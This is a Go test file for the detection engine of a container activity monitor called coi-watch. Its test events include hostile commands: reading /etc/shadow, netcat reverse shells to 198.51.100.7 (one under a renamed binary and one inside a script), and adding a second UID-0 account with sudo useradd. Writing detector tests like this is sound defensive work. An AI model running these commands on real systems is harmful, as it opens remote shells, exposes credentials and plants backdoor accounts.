package engine

import (
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/detect"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/pkg/coi"
)

// TestSamples runs the samples of every detector (T-W-02).
func TestSamples(t *testing.T) {
	for _, d := range detect.All {
		t.Run(d.ID, func(t *testing.T) {
			if len(d.Fire) == 0 || len(d.Quiet) == 0 {
				t.Fatal("a detector needs samples of both kinds")
			}
			for _, f := range testDetector(d) {
				t.Error(f)
			}
		})
	}
}

// TestQuietEverywhere runs the quiet command lines of each detector through all
// others: nothing may pause the session (R-MON-08, T-W-04).
func TestQuietEverywhere(t *testing.T) {
	cfg := Config{Workspace: "/workspace", Home: "/home/code", User: "code"}
	for _, d := range detect.All {
		for _, s := range d.Quiet {
			if s.Line == "" || s.Level != "" {
				continue
			}
			if got := Judge(cfg, s, ""); got.Rank() >= coi.High.Rank() {
				t.Errorf("quiet line of %s pauses at %s: %s", d.ID, got, s.Line)
			}
		}
	}
}

// TestOneLineOneFinding checks that the parts of a line, which arrive as execs
// of their own, are not said again, and that the next line is.
func TestOneLineOneFinding(t *testing.T) {
	e := New(Config{})
	run := func(pid, ppid int, mono int64, argv ...string) int {
		n := 0
		for _, f := range e.Process(event.Event{Type: event.Exec, PID: pid, PPID: ppid, Start: uint64(pid), Mono: mono, Exe: "/usr/bin/" + argv[0], Argv: argv}) {
			if f.Rule == "cred.shadow" {
				n++
			}
		}
		return n
	}
	if n := run(10, 1, 1, "bash", "-c", "cat /etc/shadow"); n != 1 {
		t.Fatalf("the line gives %d findings; want 1", n)
	}
	if n := run(11, 10, 2, "cat", "/etc/shadow"); n != 0 {
		t.Errorf("its part gives %d findings; want 0", n)
	}
	if n := run(12, 1, 3, "bash", "-c", "cat /etc/shadow"); n != 1 {
		t.Errorf("the next line gives %d findings; want 1", n)
	}
	e.Forget()
	if n := run(13, 10, 4, "cat", "/etc/shadow"); n != 1 {
		t.Errorf("after a thaw the part gives %d findings; want 1", n)
	}
}

// TestLevels checks that a user's level is applied and cannot kill (R-MON-12).
func TestLevels(t *testing.T) {
	s := detect.Sample{Line: "cat /etc/shadow"}
	if got := Judge(Config{Levels: map[string]coi.Level{"cred.shadow": coi.Info}}, s, ""); got != coi.Info {
		t.Errorf("level = %s; want info", got)
	}
	if got := Judge(Config{Levels: map[string]coi.Level{"cred.shadow": coi.Critical}}, s, ""); got != coi.High {
		t.Errorf("level = %s; want high: a setting never kills", got)
	}
}

// TestIdentity: a program is known by its content, not by its name (R-MON-05).
func TestIdentity(t *testing.T) {
	e := New(Config{Resolve: func(p string) string {
		if p == "/tmp/zz" {
			return "nc"
		}
		return ""
	}})
	for name, ev := range map[string]event.Event{
		"by the sensor":   {Type: event.Exec, PID: 5, Exe: "/opt/a", ExeIs: "nc", Argv: []string{"ls", "-e", "/bin/sh", "198.51.100.7", "4242"}},
		"by the resolver": {Type: event.Exec, PID: 6, Exe: "/usr/bin/bash", Argv: []string{"bash", "-c", "/tmp/zz -e /bin/sh 198.51.100.7 4242"}},
		"by a script":     {Type: event.Exec, PID: 7, Exe: "/usr/bin/bash", Argv: []string{"bash", "/tmp/s"}, ScriptPath: "/tmp/s", Script: "#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4242\n"},
	} {
		found := false
		for _, f := range e.Process(ev) {
			found = found || f.Rule == "shell.relay-tool" && f.Level == coi.Critical
		}
		if !found {
			t.Errorf("%s: shell.relay-tool did not fire", name)
		}
	}
}

// What coi does while it prepares a container is said as info, and hides nothing
// that the same shell, or a child of it, does afterwards.
func TestSetupHidesNothing(t *testing.T) {
	e := New(Config{Workspace: "/workspace"})
	root, user := 0, 1000
	worst := func(ev event.Event) coi.Level {
		level := coi.Level("")
		for _, f := range e.Process(ev) {
			if f.Level.Rank() > level.Rank() {
				level = f.Level
			}
		}
		return level
	}
	setup := event.Event{Type: event.Exec, PID: 5, PPID: 1, Mono: 1, UID: &root, Exe: "/usr/bin/sh", Argv: []string{"sh", "-c", "usermod -aG sudo code"}, Setup: true}
	if got := worst(setup); got != coi.Info {
		t.Errorf("setup gives %q; want info", got)
	}
	attack := event.Event{Type: event.Exec, PID: 6, PPID: 5, Mono: 2, UID: &user, Exe: "/usr/bin/sudo", Argv: []string{"sudo", "useradd", "-o", "-u", "0", "toor"}}
	if got := worst(attack); got != coi.High {
		t.Errorf("the second root after it gives %q; want high", got)
	}
}
